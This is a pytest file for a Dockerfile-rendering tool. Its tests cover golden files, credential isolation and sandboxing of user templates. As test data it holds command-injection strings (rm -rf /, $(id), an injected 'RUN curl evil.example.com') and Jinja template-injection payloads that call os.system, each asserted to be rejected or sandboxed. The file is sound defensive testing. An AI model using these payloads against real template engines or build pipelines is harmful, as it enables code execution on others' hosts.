"""Rendering: golden Dockerfiles, determinism, user template overrides, and injection attempts."""

import os
from pathlib import Path

import pytest

from imagectl.config import Config
from imagectl.errors import TemplateError, ValidationError
from imagectl.image_spec import ImageSpec
from imagectl.matrix.names import resolve_profile
from imagectl.images.build_key import build_key
from imagectl.reference import parse_reference
from imagectl.render.context import NETRC_FILE
from imagectl.images.context_write import write_context
from imagectl.render.dockerfile import context_files

GOLDEN = Path(__file__).parent / "golden"
MIRRORED = Config(mirrors={"docker.io": "mirror.example.com/hub"}, apt_mirror="http://apt.example.com/ubuntu",
                  pip_extra_index_urls=("https://extra.example.com/simple",), pip_trusted_hosts=("extra.example.com",))


def files_of(profile, config: Config, **spec) -> dict[str, bytes]:
    """The build context of the image of ``profile`` (an ImageSpec's fields as keywords)."""
    return context_files(ImageSpec(profile, **spec), config)


def check_golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if os.environ.get("IMAGECTL_UPDATE_GOLDEN"):
        path.write_text(text)
    assert text == path.read_text(), f"{name} differs from its golden file (IMAGECTL_UPDATE_GOLDEN=1 rewrites it)"


@pytest.mark.parametrize("profile, config, golden", [
    ("torch-2.3-cu121", Config(), "torch-2.3-cu121.Dockerfile"),
    ("torch-2.3-cu118-devel", MIRRORED, "torch-2.3-cu118-devel.mirrored.Dockerfile"),
])
def test_golden_dockerfiles(matrix, profile, config, golden):
    files = files_of(resolve_profile(profile, matrix), config)
    check_golden(golden, files["Dockerfile"].decode())


def layer_files(files: dict[str, bytes]) -> str:
    """The requirements of every install layer of a context (``lock-N-LAYER.txt``), in order."""
    return "".join(files[name].decode() for name in sorted(files) if name.startswith("lock-"))


def test_requirements_pin_everything_with_the_variant_index(matrix):
    req = layer_files(files_of(resolve_profile("torch-2.3-cu118", matrix), MIRRORED))
    assert "--index-url https://download.pytorch.org/whl/cu118\n" in req
    assert "--extra-index-url https://extra.example.com/simple\n" in req
    for pin in ("torch==2.3.1", "torchvision==0.18.1", "nvidia-nccl-cu11==2.20.5", "nvidia-cudnn-cu11==8.7.0.84"):
        assert pin + "\n" in req


def test_configured_index_replaces_default(matrix):
    cfg = Config(pip_index_url="https://pypi.example.com/whl/{cuda_tag}")
    req = layer_files(files_of(resolve_profile("torch-2.3-cu121", matrix), cfg))
    assert "--index-url https://pypi.example.com/whl/cu121\n" in req


def test_rendering_is_deterministic_and_base_is_pinned(matrix):
    p = resolve_profile("torch-2.3-cu121", matrix)
    digest = "sha256:" + "ab" * 32
    one = context_files(ImageSpec(p, base_digest=digest), MIRRORED)
    assert one == context_files(ImageSpec(p, base_digest=digest), MIRRORED)
    dockerfile = one["Dockerfile"].decode()
    assert f"FROM mirror.example.com/hub/nvidia/cuda:12.1.1-runtime-ubuntu22.04@{digest}\n" in dockerfile
    assert f'org.opencontainers.image.base.digest="{digest}"' in dockerfile


def test_layers_shared_and_extras_last(matrix):
    a = files_of(resolve_profile("torch-2.3-cu121", matrix), Config())["Dockerfile"].decode()
    b = files_of(resolve_profile("torch-2.3-cu118", matrix), Config())["Dockerfile"].decode()
    def steps_after_from(text: str) -> str:
        return text.split("COPY lock-1-")[0].split("\nFROM ", 1)[1].split("\n", 1)[1]

    assert "python3.10 -m venv" in steps_after_from(a)
    assert steps_after_from(a) == steps_after_from(b)  # same Python/venv steps: cached once per base
    with_extras = files_of(resolve_profile("torch-2.3-cu121", matrix), Config(), extras=("einops==0.8.0",))
    text = with_extras["Dockerfile"].decode()
    runs = [line for line in text.splitlines() if line.startswith(("RUN", "COPY"))]
    assert runs[-1].startswith("RUN pip install") and "extras-lock.txt" in runs[-1]  # the last layer
    assert "--no-deps --require-hashes" in runs[-1]
    assert runs.index("COPY imagectl-entry.sh /opt/imagectl/entry.sh") < runs.index(runs[-2])  # with the check
    assert with_extras["extra-requirements.txt"] == b"einops==0.8.0\n"


@pytest.mark.parametrize("extra", [
    "numpy; rm -rf /", "numpy @ https://evil.example.com/numpy.whl", "x==1 $(id)", "pkg\nRUN curl evil", "'quoted'",
])
def test_extra_requirement_injection_is_rejected(matrix, extra):
    with pytest.raises(ValidationError):
        files_of(resolve_profile("torch-2.3-cu121", matrix), Config(), extras=(extra,))


def test_user_templates_override_partials(matrix, tmp_path):
    (tmp_path / "partials").mkdir()
    (tmp_path / "partials" / "ca.j2").write_text("\n# team partial for {{ profile.name }}\n")
    files = files_of(resolve_profile("torch-2.3-cu121", matrix), Config(template_dirs=(tmp_path,)))
    text = files["Dockerfile"].decode()
    assert "# team partial for torch-2.3-cu121" in text


def test_undefined_variable_is_a_template_error(matrix, tmp_path):
    (tmp_path / "partials").mkdir()
    (tmp_path / "partials" / "ca.j2").write_text("{{ no_such_thing }}")
    with pytest.raises(TemplateError, match="no_such_thing"):
        files_of(resolve_profile("torch-2.3-cu121", matrix), Config(template_dirs=(tmp_path,)))


def test_ca_bundle_is_copied_into_context(matrix, tmp_path):
    ca = tmp_path / "corp.pem"
    ca.write_text("-----BEGIN CERTIFICATE-----\n")
    files = files_of(resolve_profile("torch-2.3-cu121", matrix), Config(ca_bundle=ca))
    assert files["ca.pem"] == ca.read_bytes() and b"COPY ca.pem" in files["Dockerfile"]
    written = write_context(files, {}, tmp_path / "ctx")
    assert sorted(p.name for p in written) == ["Dockerfile", "ca.pem", "constraints.txt", "imagectl-check.py",
                                               "imagectl-entry.sh", "lock-1-packages.txt", "lock.txt"]


def test_check_script_is_valid_python(matrix):
    script = files_of(resolve_profile("torch-2.3-cu121", matrix), Config())["imagectl-check.py"].decode()
    compile(script, "imagectl-check.py", "exec")


SECRET = "S3cr3tT0ken"
WITH_CREDENTIALS = Config(pip_index_url=f"https://user:{SECRET}@pypi.example.com/whl/{{cuda_tag}}",
                          pip_extra_index_urls=(f"https://bot:{SECRET}x@extra.example.com/simple",))


def test_golden_dockerfile_with_index_credentials(matrix):
    files = files_of(resolve_profile("torch-2.3-cu121", matrix), WITH_CREDENTIALS, extras=("einops==0.8.0",))
    check_golden("torch-2.3-cu121.credentials.Dockerfile", files["Dockerfile"].decode())


def test_index_credentials_reach_only_the_netrc_file(matrix):
    files = files_of(resolve_profile("torch-2.3-cu121", matrix), WITH_CREDENTIALS, extras=("einops==0.8.0",))
    assert [name for name, content in files.items() if SECRET.encode() in content] == [NETRC_FILE]
    assert files[NETRC_FILE] == (f"machine extra.example.com login bot password {SECRET}x\n"
                                 f"machine pypi.example.com login user password {SECRET}\n").encode()
    req = layer_files(files)
    assert "--index-url https://pypi.example.com/whl/cu121\n" in req
    assert "--extra-index-url https://extra.example.com/simple\n" in req


def test_final_stage_copies_the_environment_and_never_the_credentials(matrix):
    files = files_of(resolve_profile("torch-2.3-cu121", matrix), WITH_CREDENTIALS, extras=("einops==0.8.0",))
    text = files["Dockerfile"].decode()
    install, final = text.split("\nFROM docker.io/nvidia/cuda:12.1.1-runtime-ubuntu22.04\n")
    assert "AS imagectl-install" in install and f"COPY {NETRC_FILE} " in install
    assert ("pip install --no-cache-dir --no-deps --require-hashes --only-binary :all: "
            "-r /opt/imagectl/extras-lock.txt") in install  # the extras are installed with the credentials too
    assert NETRC_FILE not in final and "RUN pip install" not in final and "imagectl-secrets" not in final
    assert "COPY --from=imagectl-install /opt/venv /opt/venv\n" in final
    assert final.count("\nLABEL ") == 1 and install.count("LABEL") == 0


def test_extras_on_a_base_with_index_credentials(matrix):
    base = parse_reference("registry.example.com/team/torch:stable")
    files = files_of(resolve_profile("torch-2.3-cu121", matrix), WITH_CREDENTIALS, extras=("einops==0.8.0",),
                     user_base=base)
    install, final = files["Dockerfile"].decode().split("\nFROM registry.example.com/team/torch:stable\n")
    assert f"COPY {NETRC_FILE} " in install and "python -m pip install" in install
    assert NETRC_FILE not in final and "COPY --from=imagectl-install /opt/venv /opt/venv\n" in final


def test_one_credential_per_index_host(matrix):
    cfg = Config(pip_index_url="https://a:one1@pypi.example.com/simple",
                 pip_extra_index_urls=("https://a:two2@pypi.example.com/other",))
    with pytest.raises(ValidationError, match="pypi.example.com different credentials") as caught:
        files_of(resolve_profile("torch-2.3-cu121", matrix), cfg)
    assert "one1" not in str(caught.value) and "two2" not in str(caught.value)


def test_build_key_follows_the_index_without_showing_the_credential(matrix):
    profile = resolve_profile("torch-2.3-cu121", matrix)

    def key(url: str) -> str:
        return build_key(context_files(ImageSpec(profile), Config(pip_index_url=url)), "sha256:" + "a" * 64, {})

    one = key(f"https://user:{SECRET}@pypi.example.com/simple")
    assert one == key(f"https://user:{SECRET}@pypi.example.com/simple") and SECRET not in one
    assert one != key(f"https://user:{SECRET}@other.example.com/simple")  # another target
    assert one != key("https://pypi.example.com/simple")  # the same index without credentials
    assert one != key(f"https://other-user:{SECRET}@pypi.example.com/simple")  # another login
    # the password never reaches the key (a label anyone who can pull reads): no guessing it offline
    assert one == key("https://user:another-password@pypi.example.com/simple")


def test_netrc_file_is_written_for_its_owner_only(matrix, tmp_path):
    files = files_of(resolve_profile("torch-2.3-cu121", matrix), WITH_CREDENTIALS)
    write_context(files, {}, tmp_path)
    assert (tmp_path / NETRC_FILE).stat().st_mode & 0o777 == 0o600
    assert (tmp_path / "Dockerfile").stat().st_mode & 0o077 != 0


# --- user templates are sandboxed (issue 9, item 15) ---------------------------------------------------------------

def hostile_payloads(marker: Path) -> list[str]:
    """Templates that run host code (or change the context) in a plain Jinja environment."""
    touch = f"'touch {marker}'"
    return [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        f"{{{{ cycler.__init__.__globals__.os.system({touch}) }}}}",
        f"{{{{ joiner.__init__.__globals__.os.popen({touch}).read() }}}}",
        f"{{{{ lipsum.__globals__['os'].system({touch}) }}}}",
        f"{{{{ self.__init__.__globals__.__builtins__.__import__('os').system({touch}) }}}}",
        "{{ '{0.__class__.__init__.__globals__}'.format(cycler) }}",
        "{{ ''|attr('__class__') }}",
        "{{ profile|attr('update')({'name': 'x'}) }}",
        "{% set pins = [] %}{{ pins.append(1) }}",
    ]


def test_the_payloads_do_run_host_code_outside_the_sandbox(tmp_path):
    import jinja2

    marker = tmp_path / "pwned"
    jinja2.Environment().from_string(hostile_payloads(marker)[1]).render()
    assert marker.exists()  # so the sandbox tests below test something


@pytest.mark.parametrize("index", range(len(hostile_payloads(Path("x")))))
def test_a_hostile_user_template_is_a_template_error_and_runs_nothing(matrix, tmp_path, index):
    marker = tmp_path / "pwned"
    templates = tmp_path / "evil"
    (templates / "partials").mkdir(parents=True)
    (templates / "partials" / "ca.j2").write_text("# line 1\n" + hostile_payloads(marker)[index] + "\n")
    with pytest.raises(TemplateError, match=r"evil/partials/ca.j2:2: template error: SecurityError: .* unsafe"):
        files_of(resolve_profile("torch-2.3-cu121", matrix), Config(template_dirs=(templates,)))
    assert not marker.exists()


@pytest.mark.parametrize("template, message", [
    ("{{ 1 // 0 }}", "ZeroDivisionError"),
    ("{{ range(10**9)|list|length }}", "OverflowError: Range too big"),
    ('{% include "partials/ca.j2" %}', "RecursionError"),
    ("{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}", "template syntax error: nested too deeply"),
])
def test_any_failure_of_a_user_template_is_one_template_error_line(matrix, tmp_path, template, message):
    (tmp_path / "partials").mkdir()
    (tmp_path / "partials" / "ca.j2").write_text(template)
    with pytest.raises(TemplateError, match=message) as caught:
        files_of(resolve_profile("torch-2.3-cu121", matrix), Config(template_dirs=(tmp_path,)))
    assert "partials/ca.j2:1: " in str(caught.value) and len(str(caught.value).splitlines()) == 1


def test_a_discovered_configuration_cannot_make_validate_or_render_run_host_code(run_cli, tmp_path):
    marker = tmp_path / "pwned"
    (tmp_path / "evil" / "partials").mkdir(parents=True)
    (tmp_path / "evil" / "partials" / "ca.j2").write_text(hostile_payloads(marker)[1])
    (tmp_path / "imagectl.toml").write_text('[paths]\ntemplates = ["evil"]\n')  # found in the working directory
    rendered = run_cli("render", "torch-2.3-cu121")
    assert rendered.code == 2 and rendered.out == "" and not marker.exists()
    assert rendered.err.startswith("imagectl: ") and "SecurityError" in rendered.err
    assert len(rendered.err.splitlines()) == 1
    validated = run_cli("validate")
    assert validated.code == 1 and not marker.exists() and "Traceback" not in validated.out + validated.err
    assert "[template-renders]" in validated.out and "SecurityError" in validated.out


def test_the_shipped_templates_render_the_same_in_the_sandbox(matrix):
    import jinja2
    from jinja2.sandbox import ImmutableSandboxedEnvironment

    from imagectl.matrix.names import list_profiles
    from imagectl.render.dockerfile import assignments, make_environment, quote
    from imagectl.shipped import template_dirs

    sandboxed = make_environment(template_dirs(MIRRORED))
    assert isinstance(sandboxed, ImmutableSandboxedEnvironment)
    plain = jinja2.Environment(loader=sandboxed.loader, undefined=jinja2.StrictUndefined, keep_trailing_newline=True,
                               trim_blocks=True, lstrip_blocks=True, autoescape=False)
    plain.filters.update(q=quote, assignments=assignments)
    for profile in list_profiles(matrix):
        for extras in ((), ("einops==0.8.0",)):
            assert context_files(ImageSpec(profile, extras=extras), MIRRORED, sandboxed) == \
                context_files(ImageSpec(profile, extras=extras), MIRRORED, plain), profile.name


def jit_step(dockerfile: str) -> str:
    """The RUN of the JIT layer ("" when there is none)."""
    marker = "[framework] jit_packages"
    if marker not in dockerfile:
        return ""
    return "RUN " + dockerfile.split(marker, 1)[1].split("\nRUN ", 1)[1].split("\n\n", 1)[0]


def test_jit_packages_are_one_layer_after_python_and_before_the_framework(matrix):
    text = files_of(resolve_profile("torch-2.3-cu121", matrix), Config())["Dockerfile"].decode()
    venv, jit, framework = (text.index("-m venv /opt/venv"), text.index("[framework] jit_packages"),
                            text.index("COPY lock-1-"))
    assert venv < jit < framework
    step = jit_step(text)
    assert "    for p in g++ gcc python3.10-dev; do \\\n" in step  # sorted, for the profile's Python
    assert "apt-get install -y --no-install-recommends $missing; \\\n" in step
    assert "rm -rf /var/lib/apt/lists/*" in step and "sed -i" not in step
    py311 = files_of(resolve_profile("torch-2.3-cu121-py3.11", matrix), Config())["Dockerfile"].decode()
    assert "for p in g++ gcc python3.11-dev; do" in jit_step(py311)


def test_the_jit_layer_honours_the_apt_mirror(matrix):
    step = jit_step(files_of(resolve_profile("torch-2.3-cu121", matrix), MIRRORED)["Dockerfile"].decode())
    sed = "sed -i -E 's#https?://(archive|security|ports)\\.ubuntu\\.com/ubuntu(-ports)?/?#http://apt.example.com/ubuntu/#g'"
    assert sed in step and step.index(sed) < step.index("apt-get update")


def test_no_jit_layer_without_jit_packages_nor_in_the_install_stage(matrix, copy_matrix, tmp_path):
    from imagectl.matrix.load import load_matrix

    dest = copy_matrix(tmp_path / "m")
    path = dest / "torch.toml"
    path.write_text(path.read_text().replace('jit_packages = ["gcc", "g++", "python{python}-dev"]\n', ""))
    text = files_of(resolve_profile("torch-2.3-cu121", load_matrix([dest])), Config())["Dockerfile"].decode()
    assert jit_step(text) == "" and "dpkg-query" not in text
    with_credentials = files_of(resolve_profile("torch-2.3-cu121", matrix), WITH_CREDENTIALS)["Dockerfile"]
    install, final = with_credentials.decode().split("\nFROM docker.io/nvidia/cuda:12.1.1-runtime-ubuntu22.04\n")
    assert "jit_packages" not in install and jit_step(final)


@pytest.mark.parametrize("package", ["gcc\nRUN curl evil.example.com", "g++ $(id)", "python{python}-dev; id"])
def test_a_jit_package_that_skipped_the_loader_never_reaches_the_dockerfile(matrix, package):
    from dataclasses import replace

    profile = resolve_profile("torch-2.3-cu121", matrix)
    profile = replace(profile, framework=replace(profile.framework, jit_packages=("gcc", package)))
    with pytest.raises(ValidationError, match="jit_packages: .* is not a Debian package name"):
        context_files(ImageSpec(profile), Config())


def image_env_of(dockerfile: str) -> dict[str, str]:
    """The final ``ENV`` instruction's assignments (one per continued line)."""
    block = dockerfile.rsplit("\nENV ", 1)[1].split("\nLABEL ", 1)[0]
    pairs = (line.strip().rstrip("\\").strip().split("=", 1) for line in block.splitlines())
    return {key: value.strip('"') for key, value in pairs}


@pytest.mark.parametrize("name", ["torch-2.3-cu121", "torch-2.3-cu118-devel"])
def test_the_image_states_what_the_nvidia_runtime_exposes(matrix, name):
    env = image_env_of(files_of(resolve_profile(name, matrix), Config())["Dockerfile"].decode())
    assert env["NVIDIA_VISIBLE_DEVICES"] == "all" and env["NVIDIA_DRIVER_CAPABILITIES"] == "compute,utility"
    assert env["NVIDIA_REQUIRE_CUDA"] == f"cuda>={resolve_profile(name, matrix).variant.cuda}"


def test_cuda_home_is_set_on_devel_only(matrix):
    devel = image_env_of(files_of(resolve_profile("torch-2.3-cu118-devel", matrix), Config())["Dockerfile"]
                         .decode())
    runtime = image_env_of(files_of(resolve_profile("torch-2.3-cu118", matrix), Config())["Dockerfile"].decode())
    assert devel["CUDA_HOME"] == "/usr/local/cuda" and "CUDA_HOME" not in runtime


def test_the_entry_check_is_the_entrypoint_of_a_profile_image(matrix):
    files = files_of(resolve_profile("torch-2.3-cu121", matrix), Config())
    dockerfile = files["Dockerfile"].decode()
    copies = "COPY imagectl-check.py /opt/imagectl/check.py\nCOPY imagectl-entry.sh /opt/imagectl/entry.sh\n"
    assert copies in dockerfile
    assert 'ENTRYPOINT ["/bin/sh", "/opt/imagectl/entry.sh"]\n' in dockerfile
    assert dockerfile.index("ENTRYPOINT") < dockerfile.rindex("\nENV ") and "\nCMD " not in dockerfile
    assert files["imagectl-entry.sh"].startswith(b"#!/bin/sh\n")


def test_layering_extras_on_a_base_keeps_its_entrypoint_and_states_the_nvidia_env(matrix):
    base = parse_reference("registry.example.com/team/torch:stable")
    files = files_of(resolve_profile("torch-2.3-cu121", matrix), Config(), extras=("einops==0.8.0",), user_base=base)
    dockerfile = files["Dockerfile"].decode()
    assert "ENTRYPOINT" not in dockerfile and "imagectl-entry.sh" not in dockerfile
    assert image_env_of(dockerfile)["NVIDIA_DRIVER_CAPABILITIES"] == "compute,utility"
